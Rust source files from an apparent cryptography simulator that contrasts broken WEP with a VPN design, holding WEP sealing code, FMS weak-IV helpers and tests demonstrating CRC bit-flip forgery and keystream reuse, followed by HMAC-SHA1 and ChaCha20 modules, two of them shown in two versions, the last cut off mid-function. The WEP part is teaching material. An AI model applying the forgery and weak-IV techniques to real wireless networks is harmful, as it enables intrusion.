            bytes[i % 5] ^= b;
        }
        WepKey::new(&bytes)
    }

    /// Secret length in bytes (5 or 13).
    pub fn len(&self) -> usize {
        self.bytes.len()
    }

    /// True for zero-length (never: constructor forbids it) — included for
    /// API completeness per Rust conventions.
    pub fn is_empty(&self) -> bool {
        self.bytes.is_empty()
    }

    /// Raw secret bytes (the attacker-recovered value is compared to this).
    pub fn bytes(&self) -> &[u8] {
        &self.bytes
    }

    fn rc4_key(&self, iv: [u8; 3]) -> Vec<u8> {
        let mut k = Vec::with_capacity(3 + self.bytes.len());
        k.extend_from_slice(&iv);
        k.extend_from_slice(&self.bytes);
        k
    }
}

impl std::fmt::Debug for WepKey {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "WepKey({}-bit)", self.bytes.len() * 8)
    }
}

/// Per-frame overhead added by WEP (IV + KeyID + ICV).
pub const WEP_OVERHEAD: usize = 8;

/// Encrypt `payload` into a WEP frame body.
///
/// ```
/// use rogue_crypto::wep::{seal, open, WepKey};
/// let key = WepKey::from_passphrase_40("SECRET");
/// let body = seal(&key, [0x01, 0x02, 0x03], 0, b"hello");
/// assert_eq!(open(&key, &body).unwrap(), b"hello");
/// assert!(open(&WepKey::new(b"WRONG"), &body).is_err());
/// ```
pub fn seal(key: &WepKey, iv: [u8; 3], key_id: u8, payload: &[u8]) -> Vec<u8> {
    // Single buffer: header + plaintext + ICV assembled in place, then
    // encrypted in place — no intermediate plaintext-∥-ICV vector.
    let mut body = Vec::with_capacity(payload.len() + WEP_OVERHEAD);
    body.extend_from_slice(&iv);
    body.push((key_id & 0x03) << 6);
    body.extend_from_slice(payload);
    body.extend_from_slice(&crc32(payload).to_le_bytes());
    Rc4::new(&key.rc4_key(iv)).apply_keystream(&mut body[4..]);
    body
}

/// Decrypt a WEP frame body, verifying the ICV.
pub fn open(key: &WepKey, body: &[u8]) -> Result<Vec<u8>, WepError> {
    if body.len() < WEP_OVERHEAD {
        return Err(WepError::TooShort);
    }
    let iv = [body[0], body[1], body[2]];
    let mut data = body[4..].to_vec();
    Rc4::new(&key.rc4_key(iv)).apply_keystream(&mut data);
    let icv_off = data.len() - 4;
    let got = u32::from_le_bytes(data[icv_off..].try_into().expect("4 bytes"));
    let payload = &data[..icv_off];
    if crc32(payload) != got {
        return Err(WepError::BadIcv);
    }
    // Shed the ICV in place; the decrypt copy doubles as the result.
    data.truncate(icv_off);
    Ok(data)
}

/// Extract the IV from a sealed body without decrypting (what a passive
/// sniffer sees).
pub fn peek_iv(body: &[u8]) -> Option<[u8; 3]> {
    if body.len() < WEP_OVERHEAD {
        return None;
    }
    Some([body[0], body[1], body[2]])
}

/// First ciphertext byte of a sealed body (sniffer view). Combined with a
/// known first plaintext byte (0xAA for LLC/SNAP data frames) this yields
/// the first keystream byte — the FMS observable.
pub fn peek_first_ct_byte(body: &[u8]) -> Option<u8> {
    if body.len() < WEP_OVERHEAD {
        return None;
    }
    Some(body[4])
}

/// Classic FMS weak IV for secret-key byte index `a` (0-based): IVs of the
/// form `(a+3, 0xFF, x)`. Sequentially counting cards emit these
/// periodically, which is why Airsnort worked on passive captures.
pub fn is_weak_iv(iv: [u8; 3], key_byte_index: usize) -> bool {
    iv[0] as usize == key_byte_index + 3 && iv[1] == 0xFF
}

/// True if the IV is FMS-weak for *any* byte of a key of length `key_len`.
pub fn is_weak_iv_any(iv: [u8; 3], key_len: usize) -> bool {
    (0..key_len).any(|a| is_weak_iv(iv, a))
}

/// IV generation policies for simulated stations.
#[derive(Clone, Debug)]
pub enum IvPolicy {
    /// Little-endian counter starting from a seed — the behaviour of most
    /// period cards, which is what made passive FMS collection practical.
    Sequential(u32),
    /// Uniformly random per frame (requires caller-provided entropy).
    Random,
    /// Emit only FMS-weak IVs `(a+3, 0xFF, x)`, cycling positions for a
    /// key of the given length. This is an **accelerated capture model**:
    /// a sequential card emits one weak IV per position every 65 536
    /// frames, so `N` weak-only frames stand in for `N × 65 536` real
    /// ones (see DESIGN.md, experiment E4). Used by tests and the
    /// full-stack crack demo to keep runtimes sane.
    WeakOnly {
        /// Internal counter.
        counter: u32,
        /// Secret key length in bytes (5 or 13).
        key_len: u8,
    },
}

/// Stateful IV source for one transmitter.
#[derive(Clone, Debug)]
pub struct IvSource {
    policy: IvPolicy,
}

impl IvSource {
    /// New source with the given policy.
    pub fn new(policy: IvPolicy) -> IvSource {
        IvSource { policy }
    }

    /// Produce the next IV. `entropy` is consulted only by `Random`.
    pub fn next_iv(&mut self, entropy: u32) -> [u8; 3] {
        match &mut self.policy {
            IvPolicy::Sequential(c) => {
                let iv = [
                    (*c & 0xFF) as u8,
                    ((*c >> 8) & 0xFF) as u8,
                    ((*c >> 16) & 0xFF) as u8,
                ];
                *c = c.wrapping_add(1);
                iv
            }
            IvPolicy::Random => [
                (entropy & 0xFF) as u8,
                ((entropy >> 8) & 0xFF) as u8,
                ((entropy >> 16) & 0xFF) as u8,
            ],
            IvPolicy::WeakOnly { counter, key_len } => {
                let pos = (*counter % *key_len as u32) as u8;
                let x = (*counter / *key_len as u32 % 256) as u8;
                *counter = counter.wrapping_add(1);
                [pos + 3, 0xFF, x]
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn key40() -> WepKey {
        WepKey::new(b"AB#12")
    }

    fn key104() -> WepKey {
        WepKey::new(b"thirteen-byte")
    }

    #[test]
    fn seal_open_roundtrip_40() {
        let body = seal(&key40(), [1, 2, 3], 0, b"hello wireless");
        assert_eq!(body.len(), 14 + WEP_OVERHEAD);
        let out = open(&key40(), &body).unwrap();
        assert_eq!(out, b"hello wireless");
    }

    #[test]
    fn seal_open_roundtrip_104() {
        let body = seal(&key104(), [9, 9, 9], 2, b"x");
        let out = open(&key104(), &body).unwrap();
        assert_eq!(out, b"x");
    }

    #[test]
    fn wrong_key_fails_icv() {
        let body = seal(&key40(), [1, 2, 3], 0, b"payload");
        let wrong = WepKey::new(b"WRONG");
        assert_eq!(open(&wrong, &body), Err(WepError::BadIcv));
    }

    #[test]
    fn corrupted_body_fails_icv() {
        let mut body = seal(&key40(), [4, 5, 6], 0, b"payload");
        let n = body.len();
        body[n - 1] ^= 0x01;
        assert_eq!(open(&key40(), &body), Err(WepError::BadIcv));
    }

    #[test]
    fn too_short_rejected() {
        assert_eq!(open(&key40(), &[1, 2, 3]), Err(WepError::TooShort));
    }

    #[test]
    fn iv_is_cleartext() {
        let body = seal(&key40(), [0xAA, 0xBB, 0xCC], 0, b"data");
        assert_eq!(peek_iv(&body), Some([0xAA, 0xBB, 0xCC]));
    }

    #[test]
    fn bitflip_forgery_passes_icv() {
        // The CRC-linearity attack end to end: modify ciphertext so the
        // decrypted plaintext changes in a chosen way yet the ICV still
        // verifies. This is why WEP "integrity" never protected anyone.
        use crate::crc32::bitflip_patch;
        let payload = b"amount=0010".to_vec();
        let body = seal(&key40(), [7, 7, 7], 0, &payload);

        // Attacker flips plaintext "0010" -> "9910" without the key.
        let mut delta = vec![0u8; payload.len()];
        delta[7] = b'0' ^ b'9';
        delta[8] = b'0' ^ b'9';
        let patch = bitflip_patch(&delta, payload.len()).to_le_bytes();

        let mut forged = body.clone();
        for (i, d) in delta.iter().enumerate() {
            forged[4 + i] ^= d;
        }
        for (i, p) in patch.iter().enumerate() {
            forged[4 + payload.len() + i] ^= p;
        }
        let out = open(&key40(), &forged).expect("forged frame must verify");
        assert_eq!(out, b"amount=9910");
    }

    #[test]
    fn keystream_reuse_leaks_xor() {
        // Same IV + same key = same keystream: the classic two-time pad.
        let a = seal(&key40(), [1, 1, 1], 0, b"attack at dawn!!");
        let b = seal(&key40(), [1, 1, 1], 0, b"defend at dusk!!");
        let xor_ct: Vec<u8> = a[4..].iter().zip(&b[4..]).map(|(x, y)| x ^ y).collect();
        let xor_pt: Vec<u8> = b"attack at dawn!!"
            .iter()
            .zip(b"defend at dusk!!")
            .map(|(x, y)| x ^ y)
            .collect();
        assert_eq!(&xor_ct[..xor_pt.len()], &xor_pt[..]);
    }

    #[test]
    fn weak_iv_classification() {
        assert!(is_weak_iv([3, 255, 7], 0));
        assert!(is_weak_iv([7, 255, 200], 4));
        assert!(!is_weak_iv([3, 254, 7], 0));
        assert!(!is_weak_iv([4, 255, 7], 0));
        assert!(is_weak_iv_any([8, 255, 0], 13));
        assert!(!is_weak_iv_any([200, 255, 0], 13));
    }

    #[test]
    fn sequential_iv_hits_weak_values() {
        let mut src = IvSource::new(IvPolicy::Sequential(0xFF00));
        // Counter 0xFF00 => iv (0x00, 0xFF, 0x00); advancing 3 reaches
        // (0x03, 0xFF, 0x00), weak for key byte 0.
        let mut found = false;
        for _ in 0..16 {
            if is_weak_iv(src.next_iv(0), 0) {
                found = true;
            }
        }
        assert!(found);
    }

    #[test]
    fn passphrase_derivation_is_deterministic() {
        let a = WepKey::from_passphrase_40("SECRET");
        let b = WepKey::from_passphrase_40("SECRET");
        assert_eq!(a.bytes(), b.bytes());
        assert_eq!(a.len(), 5);
    }

    #[test]
    fn debug_hides_key_material() {
        let k = WepKey::new(b"AB#12");
        assert!(!format!("{k:?}").contains("AB#12"));
    }
}
