//! HMAC-SHA1 (RFC 2104) and a small HKDF-style key-derivation helper.
//!
//! The VPN (Section 5 of the paper) needs two things from a MAC: record
//! integrity (so in-flight rewrites are *detected*, not silently accepted
//! the way WEP's CRC ICV accepts them) and mutual authentication against a
//! pre-established secret (requirement 2 of §5.2: "authentication
//! information preestablished").

use crate::sha1::Sha1;

const BLOCK: usize = 64;

/// HMAC-SHA1 with the key's inner/outer pad blocks pre-absorbed.
///
/// The first SHA-1 compression of both the inner and outer hash depends
/// only on the key, so a long-lived MAC key (the VPN record layer holds
/// one per direction per session) can pay for those two compressions
/// once. Each [`mac`](Self::mac) / [`begin`](Self::begin) then *resumes*
/// the stored midstates — two compression-function resumes per record
/// instead of two full keyed hashes. Tags are bit-identical to
/// [`hmac_sha1`].
#[derive(Clone)]
pub struct HmacSha1 {
    inner: Sha1,
    outer: Sha1,
}

impl HmacSha1 {
    /// Derive the pad midstates from `key` (hashed first when longer
    /// than the block size, per RFC 2104).
    pub fn new(key: &[u8]) -> HmacSha1 {
        let mut k = [0u8; BLOCK];
        if key.len() > BLOCK {
            let d = {
                let mut h = Sha1::new();
                h.update(key);
                h.finalize()
            };
            k[..20].copy_from_slice(&d);
        } else {
            k[..key.len()].copy_from_slice(key);
        }
        let mut ipad = [0u8; BLOCK];
        let mut opad = [0u8; BLOCK];
        for i in 0..BLOCK {
            ipad[i] = k[i] ^ 0x36;
            opad[i] = k[i] ^ 0x5C;
        }
        let mut inner = Sha1::new();
        inner.update(&ipad);
        let mut outer = Sha1::new();
        outer.update(&opad);
        HmacSha1 { inner, outer }
    }

    /// Start a streaming MAC computation from the stored midstates.
    pub fn begin(&self) -> HmacSha1Ctx {
        HmacSha1Ctx {
            inner: self.inner.clone(),
            outer: self.outer.clone(),
        }
    }

    /// One-shot tag over `msg`.
    pub fn mac(&self, msg: &[u8]) -> [u8; 20] {
        let mut ctx = self.begin();
        ctx.update(msg);
        ctx.finalize()
    }
}

/// An in-progress MAC resumed from [`HmacSha1`] midstates. Feed message
/// parts with [`update`](Self::update) (so callers never assemble a
/// contiguous `seq ∥ ciphertext` buffer) and close with
/// [`finalize`](Self::finalize).
pub struct HmacSha1Ctx {
    inner: Sha1,
    outer: Sha1,
}

impl HmacSha1Ctx {
    /// Absorb a message part.
    pub fn update(&mut self, part: &[u8]) {
        self.inner.update(part);
    }

    /// Produce the full 20-byte tag.
    pub fn finalize(mut self) -> [u8; 20] {
        let inner_digest = self.inner.finalize();
        self.outer.update(&inner_digest);
        self.outer.finalize()
    }

    /// Produce the truncated 96-bit wire tag.
    pub fn finalize_96(self) -> [u8; 12] {
        let full = self.finalize();
        let mut out = [0u8; 12];
        out.copy_from_slice(&full[..12]);
        out
    }
}

/// HMAC-SHA1 of `msg` under `key`, full 20-byte tag.
pub fn hmac_sha1(key: &[u8], msg: &[u8]) -> [u8; 20] {
    HmacSha1::new(key).mac(msg)
}

/// HMAC-SHA1 truncated to 12 bytes (the common 96-bit wire tag).
pub fn hmac_sha1_96(key: &[u8], msg: &[u8]) -> [u8; 12] {
    let full = hmac_sha1(key, msg);
    let mut out = [0u8; 12];
    out.copy_from_slice(&full[..12]);
    out
}

/// Constant-shape tag comparison. (We still compare all bytes rather than
/// early-returning; timing side channels are out of scope for a simulator
/// but the habit is free.)
pub fn verify_tag(expected: &[u8], got: &[u8]) -> bool {
    if expected.len() != got.len() {
        return false;
    }
    let mut diff = 0u8;
    for (a, b) in expected.iter().zip(got) {
        diff |= a ^ b;
    }
    diff == 0
}

/// HKDF-style expand: derive `out.len()` bytes from `secret` bound to
/// `label` and `context`, by counter-mode HMAC. Used to split a DH shared
/// secret into directional cipher and MAC keys.
pub fn derive_key(secret: &[u8], label: &str, context: &[u8], out: &mut [u8]) {
    let mut counter: u32 = 1;
    let mut offset = 0;
    while offset < out.len() {
        let mut msg = Vec::with_capacity(label.len() + context.len() + 4);
        msg.extend_from_slice(&counter.to_be_bytes());
        msg.extend_from_slice(label.as_bytes());
        msg.extend_from_slice(context);
        let block = hmac_sha1(secret, &msg);
        let take = (out.len() - offset).min(20);
        out[offset..offset + take].copy_from_slice(&block[..take]);
        offset += take;
        counter += 1;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hex(bytes: &[u8]) -> String {
        bytes.iter().map(|b| format!("{b:02x}")).collect()
    }

    // RFC 2202 HMAC-SHA1 test vectors.
    #[test]
    fn rfc2202_case1() {
        let key = [0x0b; 20];
        assert_eq!(
            hex(&hmac_sha1(&key, b"Hi There")),
            "b617318655057264e28bc0b6fb378c8ef146be00"
        );
    }

    #[test]
    fn rfc2202_case2() {
        assert_eq!(
            hex(&hmac_sha1(b"Jefe", b"what do ya want for nothing?")),
            "effcdf6ae5eb2fa2d27416d5f184df9c259a7c79"
        );
    }

    #[test]
    fn rfc2202_case3() {
        let key = [0xaa; 20];
        let msg = [0xdd; 50];
        assert_eq!(
            hex(&hmac_sha1(&key, &msg)),
            "125d7342b9ac11cd91a39af48aa17b4f63f175d3"
        );
    }

    #[test]
    fn rfc2202_long_key() {
        let key = [0xaa; 80];
        assert_eq!(
            hex(&hmac_sha1(
                &key,
                b"Test Using Larger Than Block-Size Key - Hash Key First"
            )),
            "aa4ae5e15272d00e95705637ce8a3b55ed402112"
        );
    }

    #[test]
    fn truncated_tag_is_prefix() {
        let t = hmac_sha1(b"k", b"m");
        let t96 = hmac_sha1_96(b"k", b"m");
        assert_eq!(&t[..12], &t96[..]);
    }

    /// Midstate resumes must be bit-identical to the direct keyed hash,
    /// for every key-size class (short, block-size, hashed-down long)
    /// and for split message feeding.
    #[test]
    fn midstate_matches_direct() {
        let keys: [&[u8]; 4] = [b"k", &[0x0b; 20], &[0x7E; 64], &[0xaa; 80]];
        let msg = b"seq-and-ciphertext-shaped message body";
        for key in keys {
            let pre = HmacSha1::new(key);
            assert_eq!(pre.mac(msg), hmac_sha1(key, msg));
            // Streaming over parts == one-shot over the concatenation.
            for split in 0..msg.len() {
                let mut ctx = pre.begin();
                ctx.update(&msg[..split]);
                ctx.update(&msg[split..]);
                assert_eq!(ctx.finalize(), hmac_sha1(key, msg), "split {split}");
            }
            // finalize_96 is the tag prefix.
            let mut ctx = pre.begin();
            ctx.update(msg);
            assert_eq!(ctx.finalize_96(), hmac_sha1_96(key, msg));
        }
    }

    /// One midstate object serves many messages without cross-talk.
    #[test]
    fn midstate_is_reusable() {
        let pre = HmacSha1::new(b"session-mac-key");
        let a1 = pre.mac(b"first record");
        let _ = pre.mac(b"second record");
        assert_eq!(pre.mac(b"first record"), a1);
    }

    #[test]
    fn verify_tag_behaviour() {
        let a = [1u8, 2, 3];
        assert!(verify_tag(&a, &[1, 2, 3]));
        assert!(!verify_tag(&a, &[1, 2, 4]));
        assert!(!verify_tag(&a, &[1, 2]));
    }

    #[test]
    fn derive_key_is_deterministic_and_label_separated() {
        let mut a = [0u8; 32];
        let mut b = [0u8; 32];
        let mut c = [0u8; 32];
        derive_key(b"shared", "client->server", b"ctx", &mut a);
        derive_key(b"shared", "client->server", b"ctx", &mut b);
        derive_key(b"shared", "server->client", b"ctx", &mut c);
        assert_eq!(a, b);
        assert_ne!(a, c);
    }

    #[test]
    fn derive_key_long_output() {
        let mut out = [0u8; 100];
        derive_key(b"s", "label", b"", &mut out);
        // Distinct HMAC blocks: the first 20 bytes differ from the next 20.
        assert_ne!(&out[..20], &out[20..40]);
    }
}
