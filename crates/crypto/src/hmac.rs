//! HMAC-SHA1 (RFC 2104) and a small HKDF-style key-derivation helper.
//!
//! The VPN (Section 5 of the paper) needs two things from a MAC: record
//! integrity (so in-flight rewrites are *detected*, not silently accepted
//! the way WEP's CRC ICV accepts them) and mutual authentication against a
//! pre-established secret (requirement 2 of §5.2: "authentication
//! information preestablished").

use crate::sha1::Sha1;

const BLOCK: usize = 64;

/// HMAC-SHA1 of `msg` under `key`, full 20-byte tag.
pub fn hmac_sha1(key: &[u8], msg: &[u8]) -> [u8; 20] {
    let mut k = [0u8; BLOCK];
    if key.len() > BLOCK {
        let d = {
            let mut h = Sha1::new();
            h.update(key);
            h.finalize()
        };
        k[..20].copy_from_slice(&d);
    } else {
        k[..key.len()].copy_from_slice(key);
    }

    let mut inner = Sha1::new();
    let ipad: Vec<u8> = k.iter().map(|b| b ^ 0x36).collect();
    inner.update(&ipad);
    inner.update(msg);
    let inner_digest = inner.finalize();

    let mut outer = Sha1::new();
    let opad: Vec<u8> = k.iter().map(|b| b ^ 0x5C).collect();
    outer.update(&opad);
    outer.update(&inner_digest);
    outer.finalize()
}

/// HMAC-SHA1 truncated to 12 bytes (the common 96-bit wire tag).
pub fn hmac_sha1_96(key: &[u8], msg: &[u8]) -> [u8; 12] {
    let full = hmac_sha1(key, msg);
    let mut out = [0u8; 12];
    out.copy_from_slice(&full[..12]);
    out
}

/// Constant-shape tag comparison. (We still compare all bytes rather than
/// early-returning; timing side channels are out of scope for a simulator
/// but the habit is free.)
pub fn verify_tag(expected: &[u8], got: &[u8]) -> bool {
    if expected.len() != got.len() {
        return false;
    }
    let mut diff = 0u8;
    for (a, b) in expected.iter().zip(got) {
        diff |= a ^ b;
    }
    diff == 0
}

/// HKDF-style expand: derive `out.len()` bytes from `secret` bound to
/// `label` and `context`, by counter-mode HMAC. Used to split a DH shared
/// secret into directional cipher and MAC keys.
pub fn derive_key(secret: &[u8], label: &str, context: &[u8], out: &mut [u8]) {
    let mut counter: u32 = 1;
    let mut offset = 0;
    while offset < out.len() {
        let mut msg = Vec::with_capacity(label.len() + context.len() + 4);
        msg.extend_from_slice(&counter.to_be_bytes());
        msg.extend_from_slice(label.as_bytes());
        msg.extend_from_slice(context);
        let block = hmac_sha1(secret, &msg);
        let take = (out.len() - offset).min(20);
        out[offset..offset + take].copy_from_slice(&block[..take]);
        offset += take;
        counter += 1;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hex(bytes: &[u8]) -> String {
        bytes.iter().map(|b| format!("{b:02x}")).collect()
    }

    // RFC 2202 HMAC-SHA1 test vectors.
    #[test]
    fn rfc2202_case1() {
        let key = [0x0b; 20];
        assert_eq!(
            hex(&hmac_sha1(&key, b"Hi There")),
            "b617318655057264e28bc0b6fb378c8ef146be00"
        );
    }

    #[test]
    fn rfc2202_case2() {
        assert_eq!(
            hex(&hmac_sha1(b"Jefe", b"what do ya want for nothing?")),
            "effcdf6ae5eb2fa2d27416d5f184df9c259a7c79"
        );
    }

    #[test]
    fn rfc2202_case3() {
        let key = [0xaa; 20];
        let msg = [0xdd; 50];
        assert_eq!(
            hex(&hmac_sha1(&key, &msg)),
            "125d7342b9ac11cd91a39af48aa17b4f63f175d3"
        );
    }

    #[test]
    fn rfc2202_long_key() {
        let key = [0xaa; 80];
        assert_eq!(
            hex(&hmac_sha1(
                &key,
                b"Test Using Larger Than Block-Size Key - Hash Key First"
            )),
            "aa4ae5e15272d00e95705637ce8a3b55ed402112"
        );
    }

    #[test]
    fn truncated_tag_is_prefix() {
        let t = hmac_sha1(b"k", b"m");
        let t96 = hmac_sha1_96(b"k", b"m");
        assert_eq!(&t[..12], &t96[..]);
    }

    #[test]
    fn verify_tag_behaviour() {
        let a = [1u8, 2, 3];
        assert!(verify_tag(&a, &[1, 2, 3]));
        assert!(!verify_tag(&a, &[1, 2, 4]));
        assert!(!verify_tag(&a, &[1, 2]));
    }

    #[test]
    fn derive_key_is_deterministic_and_label_separated() {
        let mut a = [0u8; 32];
        let mut b = [0u8; 32];
        let mut c = [0u8; 32];
        derive_key(b"shared", "client->server", b"ctx", &mut a);
        derive_key(b"shared", "client->server", b"ctx", &mut b);
        derive_key(b"shared", "server->client", b"ctx", &mut c);
        assert_eq!(a, b);
        assert_ne!(a, c);
    }

    #[test]
    fn derive_key_long_output() {
        let mut out = [0u8; 100];
        derive_key(b"s", "label", b"", &mut out);
        // Distinct HMAC blocks: the first 20 bytes differ from the next 20.
        assert_ne!(&out[..20], &out[20..40]);
    }
}
