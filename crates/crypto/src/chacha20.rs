//! ChaCha20 stream cipher (RFC 8439 flavour: 32-byte key, 12-byte nonce,
//! 32-bit block counter).
//!
//! The paper's testbed tunnelled PPP over SSH; we stand in a modern stream
//! cipher for the SSH transport cipher. The security argument of Section 5
//! only needs *some* strong cipher between client and trusted endpoint —
//! the contrast with WEP is that the keystream never reuses a (key, nonce)
//! pair and integrity comes from a real MAC, not a linear CRC.

/// ChaCha20 keystream generator / cipher.
#[derive(Clone)]
pub struct ChaCha20 {
    key: [u32; 8],
    nonce: [u32; 3],
    counter: u32,
    block: [u8; 64],
    block_pos: usize,
}

impl ChaCha20 {
    /// New cipher instance at block counter `counter` (normally 0; record
    /// protocols may seek).
    pub fn new(key: &[u8; 32], nonce: &[u8; 12], counter: u32) -> Self {
        let mut k = [0u32; 8];
        for (i, w) in k.iter_mut().enumerate() {
            *w = u32::from_le_bytes(key[i * 4..i * 4 + 4].try_into().unwrap());
        }
        let mut n = [0u32; 3];
        for (i, w) in n.iter_mut().enumerate() {
            *w = u32::from_le_bytes(nonce[i * 4..i * 4 + 4].try_into().unwrap());
        }
        ChaCha20 {
            key: k,
            nonce: n,
            counter,
            block: [0u8; 64],
            block_pos: 64, // force generation on first use
        }
    }

    fn quarter(state: &mut [u32; 16], a: usize, b: usize, c: usize, d: usize) {
        state[a] = state[a].wrapping_add(state[b]);
        state[d] = (state[d] ^ state[a]).rotate_left(16);
        state[c] = state[c].wrapping_add(state[d]);
        state[b] = (state[b] ^ state[c]).rotate_left(12);
        state[a] = state[a].wrapping_add(state[b]);
        state[d] = (state[d] ^ state[a]).rotate_left(8);
        state[c] = state[c].wrapping_add(state[d]);
        state[b] = (state[b] ^ state[c]).rotate_left(7);
    }

    fn refill(&mut self) {
        const SIGMA: [u32; 4] = [0x61707865, 0x3320646e, 0x79622d32, 0x6b206574];
        let mut state = [0u32; 16];
        state[..4].copy_from_slice(&SIGMA);
        state[4..12].copy_from_slice(&self.key);
        state[12] = self.counter;
        state[13..16].copy_from_slice(&self.nonce);
        let initial = state;
        for _ in 0..10 {
            // column rounds
            Self::quarter(&mut state, 0, 4, 8, 12);
            Self::quarter(&mut state, 1, 5, 9, 13);
            Self::quarter(&mut state, 2, 6, 10, 14);
            Self::quarter(&mut state, 3, 7, 11, 15);
            // diagonal rounds
            Self::quarter(&mut state, 0, 5, 10, 15);
            Self::quarter(&mut state, 1, 6, 11, 12);
            Self::quarter(&mut state, 2, 7, 8, 13);
            Self::quarter(&mut state, 3, 4, 9, 14);
        }
        for (i, w) in state.iter_mut().enumerate() {
            *w = w.wrapping_add(initial[i]);
            self.block[i * 4..i * 4 + 4].copy_from_slice(&w.to_le_bytes());
        }
        self.counter = self.counter.wrapping_add(1);
        self.block_pos = 0;
    }

    /// XOR the keystream into `data` in place (encrypt == decrypt).
    pub fn apply_keystream(&mut self, data: &mut [u8]) {
        for b in data {
            if self.block_pos == 64 {
                self.refill();
            }
            *b ^= self.block[self.block_pos];
            self.block_pos += 1;
        }
    }

    /// One-shot convenience.
    pub fn process(key: &[u8; 32], nonce: &[u8; 12], counter: u32, data: &[u8]) -> Vec<u8> {
        let mut out = data.to_vec();
        ChaCha20::new(key, nonce, counter).apply_keystream(&mut out);
        out
    }
}

impl std::fmt::Debug for ChaCha20 {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "ChaCha20 {{ counter: {} }}", self.counter)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hex(bytes: &[u8]) -> String {
        bytes.iter().map(|b| format!("{b:02x}")).collect()
    }

    // RFC 8439 §2.4.2 test vector.
    #[test]
    fn rfc8439_encrypt_vector() {
        let key: [u8; 32] = core::array::from_fn(|i| i as u8);
        let nonce: [u8; 12] = [0, 0, 0, 0, 0, 0, 0, 0x4a, 0, 0, 0, 0];
        let plaintext = b"Ladies and Gentlemen of the class of '99: If I could offer you only one tip for the future, sunscreen would be it.";
        let ct = ChaCha20::process(&key, &nonce, 1, plaintext);
        assert_eq!(
            hex(&ct[..32]),
            "6e2e359a2568f98041ba0728dd0d6981e97e7aec1d4360c20a27afccfd9fae0b"
        );
        // Decrypting must restore the plaintext.
        let pt = ChaCha20::process(&key, &nonce, 1, &ct);
        assert_eq!(&pt[..], &plaintext[..]);
    }

    // RFC 8439 §2.3.2 keystream block check via zero plaintext.
    #[test]
    fn rfc8439_block_function() {
        let key: [u8; 32] = core::array::from_fn(|i| i as u8);
        let nonce: [u8; 12] = [0, 0, 0, 9, 0, 0, 0, 0x4a, 0, 0, 0, 0];
        let zeros = [0u8; 64];
        let ks = ChaCha20::process(&key, &nonce, 1, &zeros);
        assert_eq!(hex(&ks[..16]), "10f1e7e4d13b5915500fdd1fa32071c4");
    }

    #[test]
    fn roundtrip_and_counter_seek() {
        let key = [7u8; 32];
        let nonce = [9u8; 12];
        let msg: Vec<u8> = (0..300).map(|i| (i % 256) as u8).collect();
        let ct = ChaCha20::process(&key, &nonce, 0, &msg);
        assert_ne!(ct, msg);
        let pt = ChaCha20::process(&key, &nonce, 0, &ct);
        assert_eq!(pt, msg);
        // Different counter = different keystream.
        let ct2 = ChaCha20::process(&key, &nonce, 5, &msg);
        assert_ne!(ct, ct2);
    }

    #[test]
    fn incremental_matches_oneshot() {
        let key = [1u8; 32];
        let nonce = [2u8; 12];
        let msg = vec![0xABu8; 200];
        let whole = ChaCha20::process(&key, &nonce, 0, &msg);
        let mut c = ChaCha20::new(&key, &nonce, 0);
        let mut parts = msg.clone();
        let (a, b) = parts.split_at_mut(77);
        c.apply_keystream(a);
        c.apply_keystream(b);
        assert_eq!(parts, whole);
    }

    #[test]
    fn nonce_separation() {
        let key = [3u8; 32];
        let m = [0u8; 64];
        let a = ChaCha20::process(&key, &[0u8; 12], 0, &m);
        let b = ChaCha20::process(&key, &[1u8; 12], 0, &m);
        assert_ne!(a, b);
    }
}
