//! ChaCha20 stream cipher (RFC 8439 flavour: 32-byte key, 12-byte nonce,
//! 32-bit block counter).
//!
//! The paper's testbed tunnelled PPP over SSH; we stand in a modern stream
//! cipher for the SSH transport cipher. The security argument of Section 5
//! only needs *some* strong cipher between client and trusted endpoint —
//! the contrast with WEP is that the keystream never reuses a (key, nonce)
//! pair and integrity comes from a real MAC, not a linear CRC.

const SIGMA: [u32; 4] = [0x61707865, 0x3320646e, 0x79622d32, 0x6b206574];

/// ChaCha20 keystream generator / cipher.
#[derive(Clone)]
pub struct ChaCha20 {
    key: [u32; 8],
    nonce: [u32; 3],
    counter: u32,
    block: [u8; 64],
    block_pos: usize,
}

impl ChaCha20 {
    /// New cipher instance at block counter `counter` (normally 0; record
    /// protocols may seek).
    pub fn new(key: &[u8; 32], nonce: &[u8; 12], counter: u32) -> Self {
        let mut k = [0u32; 8];
        for (i, w) in k.iter_mut().enumerate() {
            *w = u32::from_le_bytes(key[i * 4..i * 4 + 4].try_into().unwrap());
        }
        let mut n = [0u32; 3];
        for (i, w) in n.iter_mut().enumerate() {
            *w = u32::from_le_bytes(nonce[i * 4..i * 4 + 4].try_into().unwrap());
        }
        ChaCha20 {
            key: k,
            nonce: n,
            counter,
            block: [0u8; 64],
            block_pos: 64, // force generation on first use
        }
    }

    fn quarter(state: &mut [u32; 16], a: usize, b: usize, c: usize, d: usize) {
        state[a] = state[a].wrapping_add(state[b]);
        state[d] = (state[d] ^ state[a]).rotate_left(16);
        state[c] = state[c].wrapping_add(state[d]);
        state[b] = (state[b] ^ state[c]).rotate_left(12);
        state[a] = state[a].wrapping_add(state[b]);
        state[d] = (state[d] ^ state[a]).rotate_left(8);
        state[c] = state[c].wrapping_add(state[d]);
        state[b] = (state[b] ^ state[c]).rotate_left(7);
    }

    /// Run the block function for the current counter, serialize the
    /// keystream block, and advance the counter.
    fn keystream_block(&mut self) -> [u8; 64] {
        let out = self.block_at(self.counter);
        self.counter = self.counter.wrapping_add(1);
        out
    }

    /// Block function dispatch: the SSE2 row-parallel path on x86-64
    /// (part of the baseline ISA there, no runtime detection needed),
    /// the portable scalar path elsewhere. Identical output bytes.
    fn block_at(&self, counter: u32) -> [u8; 64] {
        #[cfg(target_arch = "x86_64")]
        {
            self.block_sse2(counter)
        }
        #[cfg(not(target_arch = "x86_64"))]
        {
            self.block_scalar(counter)
        }
    }

    /// Portable block function — also the reference the SIMD path is
    /// pinned against in tests.
    #[cfg_attr(target_arch = "x86_64", allow(dead_code))]
    fn block_scalar(&self, counter: u32) -> [u8; 64] {
        let mut state = [0u32; 16];
        state[..4].copy_from_slice(&SIGMA);
        state[4..12].copy_from_slice(&self.key);
        state[12] = counter;
